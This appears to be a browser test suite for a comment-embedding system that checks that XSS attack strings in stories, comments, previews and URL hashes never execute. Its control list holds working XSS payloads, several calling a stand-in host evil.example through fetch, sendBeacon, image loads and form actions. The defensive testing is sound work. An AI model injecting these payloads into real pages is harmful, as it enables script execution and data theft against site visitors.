"""Attacks in a real browser: nothing of what people wrote runs, asks, opens or leads anywhere (XS-01, XS-08, EM-14)."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, replace
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser

from rejoinder.actions import publishing
from rejoinder.actions.drafting import read_text
from rejoinder.actions.editing import edit_comment
from rejoinder.actions.sites import get_site, set_site
from rejoinder.core.account import Role, Viewer
from rejoinder.core.comment import Comment
from rejoinder.core.errors import NameTaken, TextRefused
from rejoinder.core.ids import to_text
from rejoinder.core.story import Picture, Source, Story
from rejoinder.store.engine import open_store
from tests.browser.conftest import HostPages
from tests.machinery.attacks import OWN, in_lots, sample
from tests.machinery.serving import server_process
from tests.machinery.traps import TOUCH, Trapped, trap
from tests.machinery.world import World, make_world

ATTACKS = 240
PER_STORY = 48


@dataclass(frozen=True, slots=True)
class Attacked:
    """A server with stories full of attacks, and a foreign site that may embed them."""

    url: str
    world: World
    stories: list[tuple[Story, list[Comment]]]


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory, host: str) -> Iterator[Attacked]:
    folder = tmp_path_factory.mktemp("attacked")
    database = f"sqlite:///{folder / 'rejoinder.sqlite3'}"
    with server_process(database, folder / "secret") as server:
        store = open_store(database, create=False)
        try:
            world = make_world(store, url_a=server.url)
            store.write_now(set_site, replace(store.read_now(get_site, "a"), origins=(host,)))
            yield Attacked(server.url, world, [publish(world, *one) for one in enumerate(lots(world))])
        finally:
            store.close()


def lots(world: World) -> Iterator[list[str]]:
    """Yield the attacks that are taken as comments, as many as stand on one page."""
    taken = []
    for attack in sample(ATTACKS + 20):
        try:
            read_text(world.a, attack)
        except TextRefused:
            continue
        taken.append(attack)
    assert len(taken) >= min(200, len(sample(ATTACKS)) - 20)
    yield from (list(some) for some in in_lots(taken, PER_STORY))


def publish(world: World, number: int, texts: list[str]) -> tuple[Story, list[Comment]]:
    """Publish a story whose every field is an attack, with comments whose texts and names are."""
    lines = [" ".join(each.split())[:200] for each in texts]
    text = publishing.StoryText(
        f"{world.a.public_url}/attacked/{number}", lines[0], byline=lines[1], summary=lines[2], body="\n\n".join(texts),
        picture=Picture(f"{world.a.public_url}/pictures/none", lines[3], lines[4], lines[5], 10, 10),
        sources=(Source(lines[6], lines[7], f"{world.a.public_url}/"),), reason=lines[8],
    )  # fmt: skip
    story = world.store.write_now(publishing.publish_story, Viewer(world.a.id, Role.EDITOR), world.a, text).story
    comments: list[Comment] = []
    for each in texts:
        parent = comments[0] if comments else None
        guest = world.guest("attacker", world.a)
        try:
            comment = world.post(guest, story, each, name=each[:60], parent=parent)
        except (TextRefused, NameTaken):
            comment = world.post(guest, story, each, name="Mallory", parent=parent)
        comments.append(comment)
    first = read_text(world.a, "\n\n".join(texts)[:4_900])
    owner = world.guest("editor_of_first", world.a)
    edited = world.post(owner, world.story, texts[0] + "\n\nbefore", name="Mallory")
    world.store.write_now(edit_comment, owner.viewer, world.a, edited.id, first, 1)
    return story, [*comments, edited]


@pytest.fixture
def trapped(browser: Browser, attacked: Attacked, host: str) -> Iterator[Trapped]:
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    yield trap(context, [attacked.url, host])
    context.close()


EVERYTHING = ".rj-story, .rj-story *, .rj-comment, .rj-body *, .rj-author, .rj-quoted *, h1, h1 *"


def test_nothing_of_a_story_or_its_comments_runs(trapped: Trapped, attacked: Attacked) -> None:
    touched = 0
    for story, _ in attacked.stories:
        trapped.visit(f"{attacked.url}/stories/{to_text(story.id)}")
        touched += trapped.touch(EVERYTHING)
        trapped.point(".rj-body a, .rj-author", 4)
    assert trapped.wait() == []
    shown = {page.url for page in trapped.context.pages if page.url != "about:blank"}
    assert shown == {f"{attacked.url}/stories/{to_text(story.id)}" for story, _ in attacked.stories}
    # At the least each comment itself and its author; how many there are depends on the corpora that are there.
    assert touched > 2 * sum(len(comments) - 1 for _, comments in attacked.stories) > 0


def test_nothing_runs_on_pages_about_one_comment(trapped: Trapped, attacked: Attacked) -> None:
    for _, comments in attacked.stories[:3]:
        for path in (f"/comments/{to_text(comments[0].id)}", f"/comments/{to_text(comments[-1].id)}/history",
                     f"/comments/{to_text(comments[1].id)}/reply?quote="):  # fmt: skip
            trapped.visit(attacked.url + path)
            assert trapped.touch(EVERYTHING) > 1
    assert trapped.wait() == []


def test_nothing_runs_in_somebody_elses_page(
    trapped: Trapped, attacked: Attacked, host: str, host_pages: HostPages
) -> None:
    """The host's page has no policy of its own: what we insert there has to be harmless by itself."""
    for number, (story, _) in enumerate(attacked.stories):
        source = f"{attacked.url}/stories/{to_text(story.id)}/discussion"
        host_pages[f"/attacked{number}"] = (
            f'<!doctype html><html lang="en"><title>Host</title><script type="module" src="{attacked.url}/embed.js">'
            f'</script><h1>A story</h1><rejoinder-discussion src="{source}"></rejoinder-discussion>',
            {},
        )
        trapped.visit(f"{host}/attacked{number}")
        trapped.page.locator("rejoinder-discussion article").first.wait_for()
        assert trapped.touch(".rj-comment, .rj-body *, .rj-author") > 48
    assert trapped.wait() == []


def test_nothing_runs_in_a_preview(trapped: Trapped, attacked: Attacked) -> None:
    trapped.visit(f"{attacked.url}/stories/{to_text(attacked.world.other_story.id)}")
    for some in in_lots(sample(60), 12):
        trapped.page.locator("textarea[name=body]").first.fill("\n\n".join(some)[:4_900])
        trapped.page.locator("button[value=preview]").first.click()
        trapped.page.wait_for_timeout(400)
        trapped.page.evaluate(TOUCH, ".rj-preview *, .rj-body *")
    assert trapped.wait() == []


def test_what_stands_behind_the_hash_does_nothing(trapped: Trapped, attacked: Attacked) -> None:
    story = f"{attacked.url}/stories/{to_text(attacked.stories[0][0].id)}"
    trapped.visit(story)
    for attack in OWN:
        for prefix in ("", "rj-c-", "comment-"):
            trapped.page.evaluate("(hash) => { location.hash = hash; }", prefix + attack)
    for attack in OWN[:4]:
        trapped.visit(f"{story}?x={quote(attack, safe='')}#{quote(attack, safe='')}")
    assert trapped.wait() == []


CONTROLS: dict[str, str] = {
    "<script>alert(1)</script>": "alert",
    "<img src=/none onerror=confirm(1)>": "confirm",
    "<b onmouseover=prompt(1)>x</b>": "prompt",
    "<b tabindex=0 onfocus=print()>x</b>": "print",
    "<b onclick=window.open('//evil.example')>x</b>": "open",
    '<a href="javascript:void 0">x</a>': "link",
    "<img src=https://evil.example/canary.png>": "request",
    "<script>fetch('https://evil.example/canary')</script>": "fetch",
    "<script>navigator.sendBeacon('https://evil.example/', 'x')</script>": "beacon",
    "<iframe src=about:blank></iframe>": "frame",
    "<form action=https://evil.example/><button>x</button></form>": "form",
}


@pytest.mark.parametrize("control", CONTROLS)
def test_the_trap_catches_what_does_run(trapped: Trapped, host: str, host_pages: HostPages, control: str) -> None:
    host_pages["/control"] = (f"<!doctype html><title>x</title><div class=rj-body>{control}</div>", {})
    trapped.visit(f"{host}/control")
    trapped.touch(".rj-body *")
    for _ in range(50):
        if any(one.startswith(CONTROLS[control]) for one in trapped.told):
            return
        trapped.page.wait_for_timeout(100)
    raise AssertionError(f"nothing was noticed but {trapped.told}")
